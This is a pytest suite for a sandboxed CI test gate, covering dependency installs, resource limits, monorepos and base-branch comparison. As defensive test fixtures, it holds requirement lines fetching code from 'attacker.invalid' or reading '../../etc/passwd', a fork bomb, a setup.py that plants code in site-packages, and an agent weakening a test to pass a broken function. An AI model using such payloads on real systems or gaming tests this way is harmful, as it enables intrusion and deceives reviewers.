"""The tests stage on real small projects, in the real sandbox, with real wheels."""

import re
import shutil
import textwrap
from pathlib import Path

import pytest
from factories import policy, unescaped, write_tree

from gatekeeper.core.model import ChangedFile
from gatekeeper.runner.sandbox import Limits
from gatekeeper.runner.testenv import declared_requirements
from gatekeeper.runner.testrun import parse_junit, run_tests, weakened_suite

LIMITS = Limits(wall_seconds=120, cpu_seconds=120, memory_bytes=1024**3, processes=128)


@pytest.fixture
def cache(wheel_cache):
    return wheel_cache


project = write_tree


CALC = {
    "calc.py": "def add(a, b):\n    return a + b\n",
    "tests/test_calc.py": """
        from calc import add

        def test_add():
            assert add(2, 2) == 4

        def test_add_negative():
            assert add(-1, 1) == 0
    """,
    "pyproject.toml": "[tool.pytest.ini_options]\npythonpath = ['.']\n",
}


def test_passing_project_goes_green(tmp_path, cache):
    result = run_tests(project(tmp_path, CALC), policy(), cache, LIMITS)
    assert result.status == "passed", result.summary
    assert result.summary.startswith("2 passed, 0 failed, 0 errors, 0 skipped")


def test_failing_test_becomes_a_finding_on_its_file_and_line(tmp_path, cache):
    files = dict(CALC)
    files["calc.py"] = "def add(a, b):\n    return a - b\n"
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status == "failed"
    assert [(f.path, f.start_line) for f in result.findings] == [("tests/test_calc.py", 5),
                                                                 ("tests/test_calc.py", 8)]
    assert "test_add" in result.findings[0].message and "assert 0 == 4" in result.findings[0].message


def test_declared_dependency_is_installed_offline_from_wheels(tmp_path, cache):
    files = {**CALC, "requirements.txt": "six==1.16.0  # pinned\n",
             "tests/test_six.py": "import six\n\ndef test_six():\n    assert six.PY3\n"}
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status == "passed", result.summary
    assert result.summary.startswith("3 passed")


def test_an_sdist_only_pin_is_built_in_the_set_up_and_its_failure_named(tmp_path, cache):
    # pycrypto 2.6.1 is published as an sdist only, and does not build on current Pythons
    files = {**CALC, "requirements.txt": "pycrypto==2.6.1\n"}
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status == "error" and not result.findings
    assert result.summary.startswith("could not run the suite: the project could not be set up")
    assert "pycrypto" in result.summary


def test_an_sdist_only_pin_that_builds_is_installed(tmp_path, cache):
    files = {**CALC, "requirements.txt": "docopt==0.6.2\n",  # an sdist only, pure Python
             "tests/test_docopt.py": "import docopt\n\n\ndef test_it():\n"
                                     "    assert docopt.__version__ == '0.6.2'\n"}
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status == "passed", result.summary


def test_the_wheels_setting_keeps_dependencies_to_wheels_fetched_outside(tmp_path, cache):
    files = {**CALC, "requirements.txt": "pycrypto==2.6.1\n"}
    result = run_tests(project(tmp_path, files), policy("tests:\n  setup: wheels\n"), cache,
                       LIMITS)
    assert result.status == "error"
    assert "no wheel for pycrypto==2.6.1" in result.summary


def test_requirement_options_and_urls_are_not_followed(tmp_path):
    project(tmp_path, {"requirements.txt": textwrap.dedent("""
        --index-url http://attacker.invalid/simple
        -e git+https://attacker.invalid/x.git#egg=x
        -r ../../etc/passwd
        evil @ https://attacker.invalid/evil-1.0-py3-none-any.whl
        six>=1.16
    """)})
    requirements, refused = declared_requirements(tmp_path)
    assert requirements == ["six>=1.16"]
    assert len(refused) == 4
    assert any("direct URL" in r for r in refused) and any("'--index-url'" in r for r in refused)


def test_no_tests_is_skipped_and_says_why(tmp_path, cache):
    result = run_tests(project(tmp_path, {"calc.py": "x = 1\n"}), policy(), cache, LIMITS)
    assert result.status == "skipped" and "no test files" in result.summary


def test_a_suite_that_hangs_is_stopped_and_blamed_on_the_change(tmp_path, cache):
    files = {**CALC, "tests/test_hang.py": "import time\n\ndef test_hang():\n    time.sleep(600)\n"}
    limits = Limits(**{**LIMITS.__dict__, "wall_seconds": 15})
    result = run_tests(project(tmp_path, files), policy(), cache, limits)
    assert result.status == "failed"  # the change's failure, not the gate's error
    assert result.summary.startswith("tests exceeded the 15 s wall-clock limit")
    assert [f.rule for f in result.findings] == ["limit-exceeded"]


@pytest.mark.parametrize("test,limit", [
    ("def test_hog():\n    blocks = [bytearray(64 * 1024**2) for _ in range(64)]\n", "512 MiB memory"),
    ("import os\n\ndef test_fork_bomb():\n    while True:\n        os.fork()\n", "64-process"),
])
def test_a_suite_that_hits_a_limit_fails_naming_it(tmp_path, cache, test, limit):
    files = {**CALC, "tests/test_hostile.py": test}
    limits = Limits(**{**LIMITS.__dict__, "wall_seconds": 60, "memory_bytes": 512 * 1024**2,
                       "processes": 64})
    result = run_tests(project(tmp_path, files), policy(), cache, limits)
    assert result.status == "failed", result.summary
    assert result.summary.startswith(f"tests exceeded the {limit} limit"), result.summary


def test_configured_command_that_is_not_pytest_is_judged_by_exit_code(tmp_path, cache):
    files = {**CALC, "check.sh": "echo checking; exit 3\n"}
    result = run_tests(project(tmp_path, files), policy("tests:\n  command: sh check.sh\n"),
                       cache, LIMITS)
    assert result.status == "failed" and "exited 3" in result.summary


def test_junit_counts():
    xml = b"""<testsuites><testsuite>
      <testcase classname="t" name="a" file="t.py" line="1"/>
      <testcase classname="t" name="b" file="t.py" line="4"><skipped/></testcase>
      <testcase classname="t" name="c" file="t.py" line="8"><error message="boom">x</error></testcase>
    </testsuite></testsuites>"""
    counts, findings = parse_junit(xml)
    assert counts == {"total": 3, "passed": 1, "failed": 0, "errors": 1, "skipped": 1}
    assert findings[0].start_line == 9 and findings[0].rule == "test-error"


def test_weakened_suite_signs_are_reported_as_warnings():
    patch = ("@@ -1,3 +1,5 @@\n import pytest\n+\n+@pytest.mark.skip(reason='flaky')\n"
             " def test_x():\n-    assert f()\n+    assert True\n")
    findings = weakened_suite([
        ChangedFile("tests/test_x.py", "modified", patch=patch),
        ChangedFile("tests/conftest.py"),
        ChangedFile("tests/test_old.py", "removed"),
    ])
    rules = sorted((f.rule, f.path, f.start_line) for f in findings)
    assert rules == [("weakened-suite/test-config-changed", "tests/conftest.py", 1),
                     ("weakened-suite/test-removed", "tests/test_old.py", 1),
                     ("weakened-suite/test-skip-added", "tests/test_x.py", 3)]
    assert not any(f.blocking for f in findings)


def hatchling(name: str, package: str, extra: str = "") -> str:
    """A pyproject.toml built with hatchling, the package at `package` (TOML allows the indent)."""
    return f"""
        [build-system]
        requires = ["hatchling"]
        build-backend = "hatchling.build"
        [project]
        name = "{name}"
        version = "1.0"
        {extra}
        [tool.hatch.build.targets.wheel]
        packages = ["{package}"]
    """


def setuptools_src(name: str) -> str:
    """A setuptools src-layout pyproject.toml with a `test` extra."""
    return f"""
        [build-system]
        requires = ["setuptools>=68"]
        build-backend = "setuptools.build_meta"
        [project]
        name = "{name}"
        version = "1.0"
        [project.optional-dependencies]
        test = ["pytest"]
        [tool.setuptools.packages.find]
        where = ["src"]
    """


HATCH_SRC = {
    "pyproject.toml": hatchling("demo-lib", "src/demo_lib", 'dependencies = ["six>=1.16"]\n'
                                '[dependency-groups]\ntest = ["pytest"]'),
    "src/demo_lib/__init__.py": "import six\n\n\ndef double(x):\n    return 2 * x\n",
    "tests/test_double.py": "from demo_lib import double\n\n\ndef test_double():\n"
                            "    assert double(2) == 4\n",
}


@pytest.mark.parametrize("shape,files", [
    ("hatchling src layout, dependency group", HATCH_SRC),
    ("setuptools src layout, test extra", {
        "pyproject.toml": setuptools_src("setuplib"),
        "src/setuplib/__init__.py": "VALUE = 3\n",
        "tests/test_value.py": "from setuplib import VALUE\n\n\ndef test_value():\n"
                               "    assert VALUE == 3\n"}),
    ("flit, tox deps", {
        "pyproject.toml": """
            [build-system]
            requires = ["flit_core>=3.2,<4"]
            build-backend = "flit_core.buildapi"
            [project]
            name = "flitmod"
            version = "1.0"
            description = "x"
        """,
        "flitmod.py": "def hello():\n    return 'hi'\n",
        "tox.ini": "[testenv]\ndeps =\n    pytest\ncommands = pytest\n",
        "tests/test_hello.py": "from flitmod import hello\n\n\ndef test_hello():\n"
                               "    assert hello() == 'hi'\n"}),
    ("uv workspace monorepo", {
        "pyproject.toml": """
            [tool.uv.workspace]
            members = ["packages/*"]
            [tool.uv]
            dev-dependencies = ["pytest"]
        """,
        "packages/core/pyproject.toml": hatchling("acme-core", "src/acme_core"),
        "packages/core/src/acme_core/__init__.py": "BASE = 40\n",
        "packages/cli/pyproject.toml": hatchling("acme-cli", "src/acme_cli", 'dependencies = ["acme-core"]'),
        "packages/cli/src/acme_cli/__init__.py": "from acme_core import BASE\n\nANSWER = BASE + 2\n",
        "tests/test_answer.py": "from acme_cli import ANSWER\n\n\ndef test_answer():\n"
                                "    assert ANSWER == 42\n"}),
])
def test_real_project_shapes_are_installed_and_their_suites_pass(tmp_path, cache, shape, files):
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status == "passed", (shape, result.summary)
    assert "test environment: " in result.summary and "project installed from" in result.summary


def test_a_build_step_that_plants_code_leaves_nothing_for_the_next_pull_request(tmp_path, cache):
    planter = """
        import glob, os, sys
        from setuptools import setup
        targets = glob.glob(sys.prefix + "/lib/python3*/site-packages") + ["/tmp"]
        for folder in targets:
            try:
                with open(os.path.join(folder, "planted.py"), "w") as out:
                    out.write("PLANTED = True\\n")
            except OSError:
                pass
        setup(name="planter", version="1.0", py_modules=["calc"])
    """
    first = run_tests(project(tmp_path / "first", {**CALC, "setup.py": planter}), policy(),
                      cache, LIMITS)
    assert first.status == "passed", first.summary
    victim = {**CALC, "setup.py": "from setuptools import setup\n"
                                  "setup(name='victim', version='1.0', py_modules=['calc'])\n",
              "tests/test_clean.py": "import importlib.util\n\n\ndef test_nothing_planted():\n"
                                     "    assert importlib.util.find_spec('planted') is None\n"}
    second = run_tests(project(tmp_path / "second", victim), policy(), cache, LIMITS)
    assert second.status == "passed", second.summary  # same dependencies, same cached venv
    assert second.summary.startswith("3 passed")


def test_python_3_12_syntax_runs_under_the_newest_interpreter_the_project_allows(tmp_path, cache):
    files = {
        "pyproject.toml": "[project]\nname = 'modern'\nrequires-python = '>=3.12'\n"
                          "[tool.pytest.ini_options]\npythonpath = ['.']\n",
        "modern.py": "type Pair = tuple[int, int]\n\n\ndef first[T](items: list[T]) -> T:\n"
                     "    return items[0]\n\n\ndef shout(d):\n    return f\"{d['x'].upper()}\"\n",
        "tests/test_modern.py": "from modern import first, shout\n\n\ndef test_first():\n"
                                "    assert first([3, 4]) == 3 and shout({'x': 'a'}) == 'A'\n",
    }
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status == "passed", result.summary
    assert re.search(r"- interpreter: Python 3\.1[2-9]\.\d+ \(requires-python >=3\.12\)",
                     unescaped(result.summary))


@pytest.mark.parametrize("extra,says", [
    ({"setup.py": "raise SystemExit('this project needs a compiler it lacks')\n"},
     ["could not run the suite: the project could not be set up", "needs a compiler it lacks"]),
    ({"pyproject.toml": "[project]\nname = 'old'\nrequires-python = '<3'\n"},
     ["could not run the suite: requires-python asks for Python <3", "this worker has 3."]),
], ids=["build fails", "no interpreter fits"])
def test_a_suite_that_cannot_be_set_up_is_said_so_never_as_failing_tests(tmp_path, cache,
                                                                        extra, says):
    result = run_tests(project(tmp_path, {**CALC, **extra}), policy(), cache, LIMITS)
    assert result.status == "error" and not result.findings
    assert result.summary.startswith(says[0]) and says[1] in result.summary, result.summary


def test_the_projects_console_scripts_are_on_the_path_of_its_tests(tmp_path, cache):
    files = {
        "pyproject.toml": """
            [build-system]
            requires = ["setuptools>=68"]
            build-backend = "setuptools.build_meta"
            [project]
            name = "greeter"
            version = "1.0"
            scripts = {greet = "greeter:main"}
        """,
        "greeter.py": "def main():\n    print('hello from greet')\n",
        "tests/test_cli.py": "import subprocess\n\n\ndef test_greet():\n    out = subprocess.run("
                             "['greet'], capture_output=True, text=True).stdout\n"
                             "    assert out == 'hello from greet\\n'\n",
    }
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status == "passed", result.summary


def test_tests_that_fail_on_the_base_too_are_pre_existing_and_do_not_block(tmp_path, cache):
    old_bug = ("from calc import add\n\n\ndef test_known_bug():\n    assert add(0.1, 0.2) == 0.3\n")
    base = project(tmp_path / "base", {**CALC, "tests/test_known.py": old_bug})
    head_files = {**CALC, "tests/test_known.py": old_bug,
                  "tests/test_new.py": "from calc import add\n\n\ndef test_new():\n"
                                      "    assert add(1, 1) == 2\n"}
    head = project(tmp_path / "head", head_files)
    result = run_tests(head, policy(), cache, LIMITS, base=base)
    assert result.status == "passed", result.summary
    [known] = result.findings
    assert not known.blocking and not known.new and "fails on the base commit too" in known.message
    assert "1 failing test also fails on the base commit" in result.summary
    strict = run_tests(head, policy("tests:\n  preexisting: block\n"), cache, LIMITS, base=base)
    assert strict.status == "failed" and strict.findings[0].blocking
    broken = project(tmp_path / "broken", {**head_files,
                                           "calc.py": "def add(a, b):\n    return a - b\n"})
    newly = run_tests(broken, policy(), cache, LIMITS, base=base)
    assert newly.status == "failed"  # what the change broke still blocks
    assert sorted(f.blocking for f in newly.findings).count(True) == 3


def test_the_base_policy_can_pin_python_add_requirements_env_and_a_working_folder(tmp_path, cache):
    files = {"sub/test_setting.py": (
        "import os, sys\n\n\ndef test_setting():\n    import six  # from tests.install\n"
        "    assert sys.version_info[:2] == (3, 12)\n"
        "    assert os.environ['GREETING'] == \"it's me\" and os.getcwd().endswith('/sub')\n")}
    setting = policy("tests:\n  python: '3.12'\n  install: [six]\n  workdir: sub\n"
                     "  env:\n    GREETING: \"it's me\"\n")
    result = run_tests(project(tmp_path, files), setting, cache, LIMITS)
    assert result.status == "passed", result.summary
    assert "interpreter: Python 3.12" in result.summary and "policy tests.python" in result.summary


@pytest.mark.parametrize("bad", ["  workdir: ../etc\n", "  workdir: /etc\n", "  python: '2'\n",
                                 "  env:\n    'BAD NAME': x\n"])
def test_unsafe_or_malformed_test_settings_are_policy_errors(bad):
    from gatekeeper.core.policy import PolicyError

    with pytest.raises(PolicyError):
        policy("tests:\n" + bad)


MONOREPO = {
    "pyproject.toml": "[tool.uv.workspace]\nmembers = ['packages/*']\n",
    "packages/core/pyproject.toml": hatchling("acme-core", "src/acme_core",
                                              '[dependency-groups]\ntest = ["pytest"]'),
    "packages/core/src/acme_core/__init__.py": "BASE = 40\n",
    "packages/core/tests/test_core.py": "from acme_core import BASE\n\n\ndef test_base():\n"
                                        "    assert BASE == 40\n",
    "packages/cli/pyproject.toml": hatchling("acme-cli", "src/acme_cli",
                                             'dependencies = ["acme-core", "six"]'),
    "packages/cli/src/acme_cli/__init__.py": "from acme_core import BASE\n\nANSWER = BASE + 2\n",
    "packages/cli/tests/test_cli.py": "import six\nfrom acme_cli import ANSWER\n\n\n"
                                      "def test_answer():\n    assert ANSWER == 42\n",
}


def test_a_monorepo_runs_the_suite_of_each_part_the_change_touched(tmp_path, cache):
    root = project(tmp_path / "repo", MONOREPO)
    only_cli = run_tests(root, policy(), cache, LIMITS, changed=["packages/cli/src/acme_cli/x.py"])
    assert only_cli.status == "passed", only_cli.summary
    assert only_cli.summary.startswith("1 parts of the monorepo with changes ran their own "
                                       "suites: packages/cli passed")
    assert "- test environment of packages/cli: none of its own" in only_cli.summary
    broken = project(tmp_path / "broken", {**MONOREPO,
                                           "packages/core/src/acme_core/__init__.py": "BASE = 1\n"})
    both = run_tests(broken, policy(), cache, LIMITS, changed=["packages/core/src/acme_core/"
                                                                "__init__.py", "README.md"])
    assert both.status == "failed"
    assert "packages/cli failed" in both.summary and "packages/core failed" in both.summary
    assert "- test environment of packages/core: pyproject.toml [dependency-groups] test" in \
        unescaped(both.summary)
    assert sorted(f.path for f in both.findings) == ["packages/cli/tests/test_cli.py",
                                                     "packages/core/tests/test_core.py"]



def test_a_monorepo_parts_failures_that_fail_on_the_base_too_are_pre_existing(tmp_path, cache):
    """As for one project (markitdown's offline failures showed the gap): a part's test that
    already fails on the base warns, a test the change breaks in that part still blocks."""
    known = "def test_known():\n    assert 1 == 2\n"
    with_bug = {**MONOREPO, "packages/cli/tests/test_known.py": known}
    base = project(tmp_path / "base", with_bug)
    head = project(tmp_path / "head", {**with_bug, "packages/cli/src/acme_cli/x.py": "X = 1\n"})
    changed = ["packages/cli/src/acme_cli/x.py"]
    result = run_tests(head, policy(), cache, LIMITS, base=base, changed=changed)
    assert result.status == "passed", result.summary
    [old] = result.findings
    assert old.path == "packages/cli/tests/test_known.py" and not old.blocking
    assert "packages/cli: 1 failing test also fails on the base commit" in result.summary
    broken = project(tmp_path / "broken", {**with_bug, "packages/cli/src/acme_cli/__init__.py":
                                           "ANSWER = 0\n"})
    newly = run_tests(broken, policy(), cache, LIMITS, base=base, changed=changed)
    assert newly.status == "failed"
    assert [f.path for f in newly.findings if f.blocking] == ["packages/cli/tests/test_cli.py"]
    edits_a_test = run_tests(head, policy(), cache, LIMITS, base=base,
                             changed=[*changed, "packages/cli/tests/test_known.py"])
    [told] = [f for f in edits_a_test.findings if f.rule == "base-tests-not-compared"]
    assert "monorepo" in told.message and not told.blocking


def test_an_agent_that_weakens_a_test_so_a_broken_function_passes_is_caught_by_the_base_test(
        tmp_path, cache):
    base = project(tmp_path / "base", CALC)
    weakened = {**CALC, "calc.py": "def add(a, b):\n    return abs(a) + b\n",
                "tests/test_calc.py": CALC["tests/test_calc.py"].replace(
                    "assert add(-1, 1) == 0", "assert add(-1, 1) >= 0")}
    head = project(tmp_path / "head", weakened)
    edited = ["calc.py", "tests/test_calc.py"]
    alone = run_tests(head, policy("tests:\n  base_tests: 'off'\n"), cache, LIMITS, base=base,
                      changed=edited)
    assert alone.status == "passed", alone.summary  # its own suite is green
    result = run_tests(head, policy("tests:\n  base_tests: block\n"), cache, LIMITS, base=base,
                       changed=edited)
    assert result.status == "failed", result.summary
    [caught] = [f for f in result.findings if f.rule == "base-test-changed"]
    assert caught.blocking and caught.path == "tests/test_calc.py" and caught.start_line == 8
    assert "test_add_negative" in caught.message and "base branch's version" in caught.message
    assert "1 not failing on the base" in result.summary
    # by default an edited test that fails is what a behaviour change looks like: the
    # approver must acknowledge it, it does not block
    acked = run_tests(head, policy(), cache, LIMITS, base=base, changed=edited)
    [asked] = [f for f in acked.findings if f.rule == "base-test-changed"]
    assert acked.status == "passed" and not asked.blocking and asked.waived_by == "tests.referee"
    # with its own test command the gate cannot point the suite at files: said, not silent
    custom = run_tests(head, policy("tests:\n  command: python -m pytest -q\n"), cache, LIMITS,
                       base=base, changed=edited)
    [told] = [f for f in custom.findings if f.rule == "base-tests-not-compared"]
    assert custom.status == "passed" and not told.blocking
    assert "tests/test_calc.py" in told.message and "tests.command" in told.message



def test_a_change_that_makes_the_base_tests_blow_up_is_not_let_through(tmp_path, cache):
    """Fail closed: the base's test, run on the change, exhausts memory and writes no report."""
    base = project(tmp_path / "base", CALC)
    head = project(tmp_path / "head", {
        **CALC, "calc.py": "def add(a, b):\n    return len(b'x' * 4 * 1024**3)\n",
        "tests/test_calc.py": "def test_nothing():\n    assert 1\n"})
    result = run_tests(head, policy(), cache, LIMITS, base=base, changed=["calc.py",
                                                                          "tests/test_calc.py"])
    assert result.status == "failed", result.summary
    [stop] = [f for f in result.findings if f.rule == "referee-not-run"]
    assert stop.blocking and "memory" in stop.message

def test_a_deleted_test_and_an_honest_test_edit(tmp_path, cache):
    base = project(tmp_path / "base", CALC)
    deleted = {k: v for k, v in CALC.items() if k != "tests/test_calc.py"}
    deleted["calc.py"] = "def add(a, b):\n    return 0\n"
    deleted["tests/test_other.py"] = "def test_true():\n    assert True\n"
    head = project(tmp_path / "head", deleted)
    gone = run_tests(head, policy(), cache, LIMITS, base=base, changed=["calc.py"],
                     touched=["calc.py", "tests/test_calc.py"])
    assert gone.status == "failed"
    assert {f.rule for f in gone.findings if f.blocking} == {"base-test-fails"}
    honest = {**CALC, "tests/test_calc.py": CALC["tests/test_calc.py"].replace(
        "def test_add():", "def test_add_zero():\n            assert add(0, 0) == 0\n\n"
                           "        def test_add():")}
    kept = run_tests(project(tmp_path / "honest", honest), policy(), cache, LIMITS, base=base,
                     changed=["tests/test_calc.py"])
    assert kept.status == "passed", kept.summary
    assert "0 not failing on the base" in kept.summary

def test_a_unittest_project_with_django_style_tests_py_is_run_not_skipped(tmp_path, cache):
    files = {
        "shop/__init__.py": "",
        "shop/prices.py": "def total(items):\n    return sum(items)\n",
        "shop/tests.py": "import unittest\n\nfrom shop.prices import total\n\n\n"
                         "class TotalTest(unittest.TestCase):\n    def test_sum(self):\n"
                         "        self.assertEqual(total([1, 2]), 3)\n\n"
                         "    def test_empty(self):\n        self.assertEqual(total([]), 1)\n",
    }
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status == "failed", result.summary
    assert result.summary.startswith("1 passed, 1 failed")
    [failure] = result.findings
    assert failure.path == "shop/tests.py" and failure.start_line == 11


def test_the_base_suite_runs_once_per_base_and_environment(tmp_path, cache):
    from gatekeeper.runner import sandbox

    old_bug = ("from calc import add\n\n\ndef test_known_bug():\n    assert add(0.1, 0.2) == 0.3\n"
               "\n\ndef test_unique_to_this_test():\n    assert True\n")
    base = project(tmp_path / "base", {**CALC, "tests/test_known.py": old_bug})
    first = project(tmp_path / "first", {**CALC, "tests/test_known.py": old_bug, "x.py": "X = 1\n"})
    second = project(tmp_path / "second", {**CALC, "tests/test_known.py": old_bug,
                                           "x.py": "X = 2\n"})
    with sandbox.recording() as runs:
        once = run_tests(first, policy(), cache, LIMITS, base=base)
    with sandbox.recording() as again:
        twice = run_tests(second, policy(), cache, LIMITS, base=base)
    assert [f.message for f in once.findings] == [f.message for f in twice.findings]
    assert once.status == twice.status == "passed"  # the known bug is pre-existing both times
    # the base's own set-up and suite on the base commit, remembered
    assert len(runs) - len(again) == 2
    other = project(tmp_path / "other-base", {**CALC, "tests/test_known.py": old_bug + "\n"})
    with sandbox.recording() as fresh:
        run_tests(second, policy(), cache, LIMITS, base=other)  # another base: runs again
    assert len(fresh) == len(runs)


FIXTURES = Path(__file__).parent / "fixtures" / "projects"


@pytest.mark.parametrize("shape", ["setupcfg", "locked", "dynver"])
def test_projects_that_need_their_own_installers_pass_when_set_up_in_the_sandbox(
        tmp_path, cache, shape):
    """setup.cfg's install_requires, a uv.lock pinning an older release than the newest, a
    version from a git tag: each failed to set up when environments were read as data."""
    source = tmp_path / shape
    shutil.copytree(FIXTURES / shape, source)
    result = run_tests(source, policy(), cache, LIMITS, version_tag="v2.3.4")
    assert result.status == "passed", result.summary
    assert f"set up in the sandbox from {'uv.lock' if shape == 'locked' else 'pip'}" in \
        unescaped(result.summary)


def test_without_the_lock_the_newest_release_is_installed_and_the_pin_test_fails(tmp_path, cache):
    source = tmp_path / "unlocked"
    shutil.copytree(FIXTURES / "locked", source)
    (source / "uv.lock").unlink()  # the control: the lock is what pins the older release
    result = run_tests(source, policy(), cache, LIMITS)
    assert result.status == "failed", result.summary


def test_a_module_the_suite_cannot_import_names_what_set_up_read_and_the_fix(tmp_path, cache):
    files = {**CALC, "tests/test_extra.py": "import tomli_w\n\n\ndef test_x():\n    assert tomli_w\n"}
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status != "passed"
    text = unescaped(result.summary)
    assert "not installed: tomli_w" in text and "tests: {install: [tomli_w]}" in text
    fixed = run_tests(project(tmp_path / "fixed", files),
                      policy("tests:\n  install: [tomli-w]\n"), cache, LIMITS)
    assert fixed.status == "passed", fixed.summary  # the control: the fix it names works


def test_requirements_from_a_vcs_or_url_are_named_and_the_rest_installed(tmp_path, cache):
    files = {**CALC, "requirements.txt": "six\nclonemapy @ git+https://github.com/x/clonemapy\n"
                                         "-e git+https://github.com/x/other#egg=other\n",
             "tests/test_six.py": "import six\n\n\ndef test_six():\n    assert six.PY3\n"}
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status == "passed", result.summary
    text = unescaped(result.summary)
    assert "not installed (not on the package index): clonemapy @ git+https" in text
    assert "-e git+https://github.com/x/other" in text


def test_a_later_push_with_the_same_lock_reuses_the_locked_environment(tmp_path, cache):
    first = tmp_path / "first"
    shutil.copytree(FIXTURES / "locked", first)
    once = run_tests(first, policy(), cache, LIMITS)
    second = tmp_path / "second"
    shutil.copytree(FIXTURES / "locked", second)
    (second / "src" / "locked" / "extra.py").write_text("X = 1\n")  # another push, same lock
    twice = run_tests(second, policy(), cache, LIMITS)
    assert once.status == twice.status == "passed", twice.summary
    assert "the lock's dependencies reused" in unescaped(twice.summary)
    relocked = tmp_path / "relocked"
    shutil.copytree(FIXTURES / "locked", relocked)
    (relocked / "uv.lock").write_text((relocked / "uv.lock").read_text() + "\n")
    again = run_tests(relocked, policy(), cache, LIMITS)  # the control: another lock builds
    assert "the lock's dependencies built" in unescaped(again.summary)


def test_a_suite_named_by_its_own_python_files_setting_is_found(tmp_path, cache):
    files = {"calc.py": CALC["calc.py"],
             "pytest.ini": "[pytest]\ntestpaths = test/\npython_files = *.py\n",
             "test/__init__.py": "", "test/adding.py": "from calc import add\n\n\n"
                                                      "def test_add():\n    assert add(1, 2) == 3\n"}
    result = run_tests(project(tmp_path, files), policy(), cache, LIMITS)
    assert result.status == "passed", result.summary
    assert result.summary.startswith("1 passed")


def test_a_module_that_does_not_import_does_not_stop_the_rest_of_the_suite(tmp_path, cache):
    broken = "import os\n\nKEY = os.environ['NO_SUCH_SECRET']\n\n\ndef test_api():\n    pass\n"
    base = project(tmp_path / "base", {**CALC, "tests/test_api.py": broken})
    head = project(tmp_path / "head", {**CALC, "tests/test_api.py": broken, "x.py": "X = 1\n"})
    result = run_tests(head, policy(), cache, LIMITS, base=base, changed=["x.py"])
    assert result.summary.startswith("2 passed, 0 failed, 1 errors"), result.summary
    assert result.status == "passed", result.summary  # the import error is the base's too
    [error] = [f for f in result.findings if f.tool == "pytest"]
    assert not error.blocking and "fails on the base commit too" in error.message


VERSIONED = {
    "pyproject.toml": setuptools_src("verlib"),
    # as setuptools-scm's write_to does: the build writes a module the tree does not hold
    "setup.py": "import pathlib\nimport setuptools\n\npathlib.Path('src/verlib/_version.py')"
                ".write_text('version = \"1.0\"\\n')\nsetuptools.setup()\n",
    "src/verlib/__init__.py": "from verlib._version import version\n\n\ndef double(x):\n"
                              "    return 2 * x\n",
    "tests/test_double.py": "from verlib import double\n\n\ndef test_double():\n"
                            "    assert double(2) == 4\n\n\ndef test_known_bug():\n"
                            "    assert double(0.1) == 0.3\n",
    "tests/test_cache.py": "def test_cache_fixture(cache):\n    cache.set('k', 1)\n"
                           "    assert cache.get('k', 0) == 1\n",
}


def test_a_base_run_finds_the_module_set_up_generated_and_the_cache_fixture_works(
        tmp_path, cache):
    base = project(tmp_path / "base", VERSIONED)
    head = project(tmp_path / "head", {**VERSIONED, "README.md": "changed\n"})
    result = run_tests(head, policy(), cache, LIMITS, base=base, changed=["README.md"])
    # the known bug fails on the base too: known only if the base's own run could import
    assert result.status == "passed", result.summary
    [known] = [f for f in result.findings if f.tool == "pytest"]
    assert "test_known_bug" in known.message and not known.blocking
    assert result.summary.startswith("2 passed, 1 failed"), result.summary  # cache fixture ran


def test_a_test_file_named_by_the_projects_python_files_counts_as_an_edited_test(
        tmp_path, cache):
    named = {"calc.py": CALC["calc.py"], "pytest.ini": "[pytest]\npython_files = tests_*.py\n",
             "tests/tests_calc.py": "from calc import add\n\n\ndef test_add():\n"
                                    "    assert add(2, 2) == 4\n"}
    base = project(tmp_path / "base", named)
    # an intended change of behaviour: the function changes and its test is edited with it
    changed = {**named, "calc.py": "def add(a, b):\n    return a + b + 1\n",
               "tests/tests_calc.py": "from calc import add\n\n\ndef test_add():\n"
                                      "    assert add(2, 2) == 5\n"}
    head = project(tmp_path / "head", changed)
    result = run_tests(head, policy(), cache, LIMITS, base=base,
                       changed=["calc.py", "tests/tests_calc.py"])
    [asked] = [f for f in result.findings if f.tool == "tests"]
    assert asked.rule == "base-test-changed" and not asked.blocking, result.findings
    assert result.status == "passed", result.summary


def test_a_conftest_that_moves_the_junit_report_elsewhere_still_reports_to_the_gate(
        tmp_path, cache):
    moved = {**CALC, "conftest.py": "def pytest_configure(config):\n"
                                    "    config.option.xmlpath = 'reports/junit.xml'\n"}
    base = project(tmp_path / "base", moved)
    head = project(tmp_path / "head", {**moved, "calc.py": "def add(a, b):\n    return a - b\n"})
    result = run_tests(head, policy(), cache, LIMITS, base=base, changed=["calc.py"])
    # without the gate's plugin: "wrote no JUnit report", and the referee could not run
    assert result.summary.startswith("0 passed, 2 failed"), result.summary
    assert {f.rule for f in result.findings if f.blocking} == {"base-test-fails"}
